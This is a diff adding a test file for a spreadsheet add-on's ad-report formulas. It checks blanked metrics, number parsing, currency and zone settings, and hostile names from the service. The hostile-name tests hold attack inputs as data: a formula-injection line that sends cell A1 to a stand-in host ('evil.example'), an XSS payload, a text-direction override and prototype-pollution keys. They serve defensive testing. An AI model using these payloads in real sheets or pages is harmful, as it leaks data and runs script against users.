@@ -1,0 +1,248 @@
+import { TUESDAY } from '../add-on';
+import { type FormulaName, FormulaSheet, yuan } from './formula-cells';
+
+/** Strange but readable answers, and what stands in the cells then. Cases 19 to 27, 43 to 45 and 58. */
+
+const sheet = new FormulaSheet();
+const { service } = sheet.addOn;
+const FOR_EVER = { times: 'until cleared' } as const;
+const DAY = '2026-09-10';
+
+afterEach(() => {
+  sheet.expectKeyKept();
+  sheet.forget();
+});
+
+describe('the warning with zeros', () => {
+  it('makes blanks of the metrics it names, and of no others', () => {
+    const [, before] = sheet.table('ADREPORT_FULL', '3.10', 'dau,revenue,arpu,newUsers', DAY);
+    sheet.forget();
+    service.arm('warning', { metrics: 'dau,arpu', ...FOR_EVER });
+    const [, row] = sheet.table('ADREPORT_FULL', '3.10', 'dau,revenue,arpu,newUsers', DAY);
+    expect(row).toEqual([before![0], '', before![2], '', before![4]]);
+    expect(before!.every((cell) => cell !== '')).toBe(true);
+  });
+
+  it('makes VALUE blank, never 0, even where other days are known', () => {
+    service.arm('warning', { metrics: 'Revenue,dau', ...FOR_EVER });
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'revenue', '3.10', DAY)).toBe('');
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toBe('');
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'ecpmApi', '3.10', '2026-09-08', DAY)).toBe('');
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'impressionApi', '3.10', DAY)).toBeGreaterThan(0);
+  });
+});
+
+describe('a warning in other words', () => {
+  it.each([
+    '指标dau在所选维度下无法统计',
+    'dau, arpu cannot be counted with the chosen dimensions',
+    'cannot be counted: dau/arpu',
+  ])('makes blanks of the metrics it names: “%s”', (message) => {
+    service.arm('warning', { metrics: 'dau', message, ...FOR_EVER });
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toBe('');
+    expect(sheet.table('ADREPORT_FULL', '3.10', 'dau,revenue', DAY)[1]!.slice(1)).toEqual([
+      '',
+      expect.any(Number),
+    ]);
+  });
+
+  it('is told instead of the numbers where it names none, and for less than a minute', () => {
+    const message = 'data of 2026-09-03 is incomplete';
+    service.arm('warning', { metrics: 'dau', message, ...FOR_EVER });
+    const sentence = 'The service says: “data of 2026-09-03 is incomplete”.';
+    expect(sheet.sentence('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toContain(sentence);
+    expect(sheet.sentence('ADREPORT_FULL', '3.10', 'dau', DAY)).toContain(sentence);
+    service.clearFaults();
+    sheet.addOn.clock.advance(60_000);
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toBeGreaterThan(0);
+  });
+});
+
+describe('numbers as texts', () => {
+  it.each([
+    ['1,234.50', 1234.5],
+    ['$3.25', 3.25],
+    [' 7 ', 7],
+    ['-0.5', -0.5],
+    ['-', ''],
+    ['N/A', ''],
+    ['', ''],
+  ] as const)('%j is read as %j', (text, cell) => {
+    service.arm('strange-numbers', { field: 'Revenue', text, ...FOR_EVER });
+    expect(sheet.table('ADREPORT_FULL', '3.10', 'revenue', DAY)[1]![1]).toBe(cell);
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'revenue', '3.10', DAY)).toBe(cell);
+  });
+
+  it('one blank among the days makes the sum blank: a part is not shown as the whole', () => {
+    service.arm('strange-numbers', { field: 'Revenue', text: '-', row: 1, ...FOR_EVER });
+    const rows = sheet
+      .table('ADREPORT_FULL', '3.10', 'revenue,impressionApi', '2026-09-01', '2026-09-03')
+      .slice(1);
+    expect(rows.map(([, revenue]) => typeof revenue === 'number')).toEqual([true, false, true]);
+    expect(rows[1]![1]).toBe('');
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'revenue', '3.10', '2026-09-01', '2026-09-03')).toBe('');
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'ecpmApi', '3.10', '2026-09-01', '2026-09-03')).toBe('');
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'impressionApi', '3.10', '2026-09-01', '2026-09-03')).toBe(
+      rows.reduce((sum, row) => sum + Number(row[2]), 0),
+    );
+  });
+
+  it('an amount with the sign of another currency is not taken for one of the currency asked', () => {
+    service.arm('strange-numbers', { field: 'Revenue', text: '￥12', ...FOR_EVER });
+    const doubt = /.* A cell has no place to say so beside its number/;
+    expect(sheet.sentence('ADREPORT_FULL', '3.10', 'revenue', DAY)).toMatch(doubt);
+    expect(sheet.sentence('ADREPORT_VALUE', 'full', 'revenue', '3.10', DAY)).toMatch(doubt);
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'revenue', '3.10', DAY, '', '', '', '', 'CNY')).toBe(12);
+  });
+
+  it.each(['12%', 'abc', '1.2.3', '0x10', 'Infinity', 'NaN', '=1+1', '1 2'])(
+    '“%s” is no money: refused',
+    (text) => {
+      service.arm('strange-numbers', { field: 'Revenue', text, ...FOR_EVER });
+      for (const [name, args] of [
+        ['ADREPORT_FULL', ['3.10', 'revenue', DAY]],
+        ['ADREPORT_VALUE', ['full', 'revenue', '3.10', DAY]],
+      ] as const)
+        expect(sheet.sentence(name, ...args)).toMatch(
+          /^The service's answer was not understood: row 1: revenue is "/,
+        );
+    },
+  );
+});
+
+describe('texts of strangers', () => {
+  const byNetwork = () => sheet.table('ADREPORT_FULL', '3.10', 'revenue', DAY, '', 'network,networkName');
+
+  it.each([
+    '=IMAGE("https://evil.example/?"&A1)',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\n=1+1',
+    ' =1+1',
+    "'00123",
+    'TRUE',
+    '</script><img src=x onerror=alert(1)>',
+    '\u202Eevil',
+  ])('%j stays a text', (text) => {
+    const before = byNetwork();
+    sheet.forget();
+    service.arm('hostile-names', { text, ...FOR_EVER });
+    const seen = byNetwork();
+    expect(seen.slice(1).map((row) => row[1])).toEqual(
+      before.slice(1).map(([, name]) => expect.stringContaining(String(name))),
+    );
+    for (const [, name] of seen.slice(1)) expect(String(name).trim().startsWith(text.trim())).toBe(true);
+    expect(seen.map((row) => row[2])).toEqual(before.map((row) => row[2]));
+  });
+
+  it('loses what no cell can hold, and shows that it did', () => {
+    service.arm('hostile-names', { text: 'a\uD800b\u0000c', ...FOR_EVER });
+    for (const [, name] of byNetwork().slice(1)) expect(name).toMatch(/^a\uFFFDb\uFFFDc/);
+  });
+
+  it('is cut at 50,000 characters', () => {
+    service.arm('hostile-names', { text: 'x'.repeat(50_001), ...FOR_EVER });
+    for (const [, name] of byNetwork().slice(1)) expect(name).toHaveLength(50_000);
+  });
+
+  it('ids stay ids, to the letter, in every report', () => {
+    const ids = ['00123456', '12E45678', '3.10', '9007199254740993'];
+    const rows = (name: FormulaName, ...args: readonly unknown[]) => sheet.table(name, ...args).slice(1);
+    expect(rows('ADREPORT_FULL', '', 'revenue', DAY, '', 'appId').map(([app]) => app)).toEqual(ids);
+    expect(rows('ADREPORT_LTV', '', 1, DAY).map(([, app]) => app)).toEqual(ids);
+    expect(rows('ADREPORT_RETENTION', '', 2, DAY).map(([, app]) => app)).toEqual(ids);
+    expect(rows('ADREPORT_DEVICE', '9007199254740993', DAY, 'appId').map(([app]) => app)).toEqual([ids[3]]);
+    const placements = rows('ADREPORT_FULL', '00123456', 'revenue', DAY, '', 'placementId').map(([id]) => id);
+    expect(placements).toEqual(expect.arrayContaining(['0017', '1E10', '1/2', '1-1']));
+    const versions = rows('ADREPORT_LTV', '3.10', 1, DAY, '', 'appVersion').map((row) => row[2]);
+    expect(versions).toEqual(expect.arrayContaining(['3.10', '3.1', '2.0.0']));
+    expect(sheet.addOn.service.requests.length).toBeGreaterThan(0);
+  });
+
+  it('a network and a format that no list knows are shown as they are', () => {
+    const firstOf = (groups: string) =>
+      sheet
+        .table('ADREPORT_FULL', '3.10', 'revenue', '2026-09-08', DAY, groups)
+        .map((row) => row.slice(0, 2));
+    service.arm('unknown-network', FOR_EVER);
+    expect(firstOf('network,networkName')).toContainEqual(['9999', 'Newcomer Ads']);
+    sheet.forget();
+    service.arm('unknown-format', FOR_EVER);
+    expect(firstOf('adFormat,adFormatName')).toContainEqual(['99', 'Hologram']);
+  });
+
+  it('keys named __proto__ and constructor change nothing', () => {
+    const before = byNetwork();
+    sheet.forget();
+    service.arm('proto-keys', FOR_EVER);
+    expect(byNetwork()).toEqual(before);
+    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
+  });
+});
+
+describe('currency and zone', () => {
+  const args = ['3.10', 'revenue', '2026-09-08', '2026-09-10'];
+  const usd = () =>
+    ['2026-09-08', '2026-09-09', '2026-09-10'].map(
+      (day) => service.truth.numbers({ app: '3.10', day, now: TUESDAY }).revenueUsd,
+    );
+  const revenues = (...more: readonly unknown[]) =>
+    sheet
+      .table('ADREPORT_FULL', ...args, ...more)
+      .slice(1)
+      .map((row) => Number(row[1]));
+  const close = (right: readonly number[]) => right.map((each) => expect.closeTo(each, 4));
+
+  it('never mix between two calls, whatever was asked before', () => {
+    for (let round = 0; round < 2; round++) {
+      expect(revenues('', '', 'USD')).toEqual(close(usd()));
+      expect(revenues('', '', 'CNY')).toEqual(close(usd().map(yuan)));
+      expect(revenues('', 'UTC+8', 'USD')).not.toEqual(close(usd()));
+    }
+    expect(service.requests).toHaveLength(3);
+  });
+
+  it('that the settings change meet no old answer', () => {
+    const set = (settings: Record<string, string>) =>
+      expect(sheet.addOn.call('sidebarSaveSettings', [settings]).error).toBeUndefined();
+    expect(revenues()).toEqual(close(usd()));
+    set({ currency: 'CNY' });
+    expect(revenues()).toEqual(close(usd().map(yuan)));
+    expect(sheet.value('ADREPORT_VALUE', 'full', ...['revenue', '3.10', '2026-09-08'])).toBeCloseTo(
+      yuan(usd()[0]!),
+      4,
+    );
+    set({ currency: 'USD', zone: 'UTC+8' });
+    const eastern = service.truth.numbers({ app: '3.10', day: '2026-09-08', zone: 'UTC+8' }).revenueUsd;
+    expect(revenues()[0]).toBeCloseTo(eastern, 4);
+    set({ zone: 'UTC+0' });
+    expect(revenues()).toEqual(close(usd()));
+  });
+
+  it('retention knows no currency, and asks for none twice', () => {
+    sheet.table('ADREPORT_RETENTION', '3.10', 2, '2026-08-01');
+    expect(sheet.addOn.call('sidebarSaveSettings', [{ currency: 'CNY' }]).error).toBeUndefined();
+    sheet.table('ADREPORT_RETENTION', '3.10', 2, '2026-08-01');
+    expect(sheet.addOn.call('sidebarSaveSettings', [{ currency: 'USD' }]).error).toBeUndefined();
+    expect(service.requests).toHaveLength(1);
+  });
+});
+
+describe('an id that the service does not know', () => {
+  it.each([
+    ['__proto__', '__proto__'],
+    ['constructor', 'constructor'],
+    ['a hash', '#1'],
+    ['a formula', '=1+1'],
+    ['markup', '</script>'],
+    ['50,000 characters', 'x'.repeat(50_000)],
+    ['letters of all scripts', 'Ünïcödé 数独'],
+  ])('%s: no rows, or a sentence', (_words, app) => {
+    expect(sheet.table('ADREPORT_FULL', app, 'revenue', DAY)).toEqual([['Date', 'Revenue']]);
+    expect(sheet.value('ADREPORT_VALUE', 'full', 'revenue', '', DAY, '', 'networkName', app)).toBe('');
+    expect(sheet.sentence('ADREPORT_DEVICE', app, DAY)).toMatch(/^The service does not permit this request/);
+    expect(sheet.asked[0]!.body['appIdList']).toEqual([app]);
+  });
+});
